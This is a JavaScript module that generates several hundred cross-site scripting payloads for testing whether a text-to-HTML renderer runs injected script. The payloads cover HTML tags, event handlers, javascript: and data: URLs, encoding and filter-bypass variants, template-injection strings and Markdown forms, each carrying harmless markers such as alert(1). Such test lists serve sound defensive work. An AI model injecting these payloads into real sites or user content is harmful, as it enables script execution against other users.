// xss.mjs: texts that would run a script in a page that makes texts into HTML: THREATS 46. Each
// script of theirs sets window.xss or opens a dialog.
const RUN = ["alert(1)", "window.xss=1", "top.xss=1", "import('data:text/javascript,window.xss=1')"];

const TAGS = [
  "<script>%</script>", "<SCRIPT>%</SCRIPT>", "<script/x>%</script>", "<script\n>%</script\n>",
  "<script src='data:text/javascript,%'></script>", "<script type=module>%</script>",
  "<img src=x onerror=%>", "<img src=x onerror='%'>", '<img src="x" onerror="%">', "<img/src=x/onerror=%>",
  "<IMG SRC=x ONERROR=%>", "<img src=x:x onerror=%//", "<image src=x onerror=%>", "<svg onload=%>",
  "<svg/onload=%>", "<svg><script>%</script></svg>", "<svg><animate onbegin=% attributeName=x dur=1s>",
  "<svg><set onbegin=% attributename=x>", "<svg><a xlink:href='javascript:%'><text x=9 y=9>x</text></a></svg>",
  "<body onload=%>", "<body onpageshow=%>", "<iframe src='javascript:%'></iframe>",
  "<iframe srcdoc='<script>parent.%</script>'></iframe>", "<iframe onload=%></iframe>",
  "<object data='javascript:%'></object>", "<object data='data:text/html,<script>%</script>'></object>",
  "<embed src='javascript:%'>", "<video><source onerror=%></video>", "<video src=x onerror=%>",
  "<audio src=x onerror=%>", "<details open ontoggle=%>x</details>", "<input autofocus onfocus=%>",
  "<select autofocus onfocus=%>", "<textarea autofocus onfocus=%>", "<marquee onstart=%>x</marquee>",
  "<math><mi xlink:href='javascript:%'>x</mi></math>", "<a href='javascript:%'>x</a>",
  "<a href=' &#106;avascript:%'>x</a>", "<form action='javascript:%'><input type=submit></form>",
  "<button formaction='javascript:%'>x</button>", "<link rel=stylesheet href='javascript:%'>",
  "<meta http-equiv=refresh content='0;url=javascript:%'>", "<base href='javascript:%//'>",
  "<style>@import 'javascript:%';</style>", "<style onload=%></style>", "<div style='background:url(javascript:%)'>x</div>",
  "<div onpointerenter=% style=position:fixed;inset:0>x</div>", "<x onclick=% tabindex=1>x</x>",
  "<template><script>%</script></template>", "<noscript><p title='</noscript><img src=x onerror=%>'>",
  "<!--><img src=x onerror=%>-->", "<![CDATA[<img src=x onerror=%>]]>", "'\"><img src=x onerror=%>",
  "</title><script>%</script>", "</textarea><script>%</script>", "</script><script>%</script>",
  "&lt;img src=x onerror=%&gt;", "&#60;img src=x onerror=%&#62;", "\\u003cimg src=x onerror=%\\u003e",
  "%3Cimg src=x onerror=%%3E", "<scr<script>ipt>%</script>", "<\u0000script>%</script>",
  "＜script＞%＜/script＞", "{{constructor.constructor('%')()}}", "${%}", "#{%}", "<%= % %>",
];

const MARKDOWN = [
  "[x](javascript:%)", "[x](JaVaScRiPt:%)", "[x](javascript&colon;%)", "[x](java\tscript:%)",
  "[x](data:text/html,<script>%</script>)", "[x](vbscript:%)", "![x](javascript:%)", "![x](x\"onerror=\"%)",
  "[x](https://x\"onmouseover=\"%)", "<javascript:%>", "javascript:%", "[<img src=x onerror=%>](https://example.org)",
  "**<img src=x onerror=%>**", "*<svg onload=%>*", "~~<svg onload=%>~~", "`<svg onload=%>`", "`` <svg onload=%> ``",
  "```\n<script>%</script>\n```", "```html\n<img src=x onerror=%>\n```", "> <img src=x onerror=%>", "- <img src=x onerror=%>",
  "1. <img src=x onerror=%>", "@<img src=x onerror=%>", "#<img src=x onerror=%>", ":<img src=x onerror=%>:",
  "https://example.org/<script>%</script>", "https://example.org/\"onclick=\"%", "https://example.org/'onclick='%",
  "mailto:x@example.org?body=<script>%</script>", "irc://example.org/\"onclick=%", "http://javascript:%@example.org/",
  "[x]: javascript:%", "[x](<javascript:%>)", "https://example.org#javascript:%", "(javascript:%)",
];

export const payloads = RUN.flatMap((run) => [
  ...TAGS.map((tag) => tag.replaceAll("%", run)),
  ...MARKDOWN.map((form) => form.replaceAll("%", run)),
]).concat(
  TAGS.map((tag) => `[${tag.replaceAll("%", "alert(1)")}](https://example.org)`),
  TAGS.map((tag) => `**${tag.replaceAll("%", "alert(1)")}** \`${tag.replaceAll("%", "alert(1)")}\``),
);
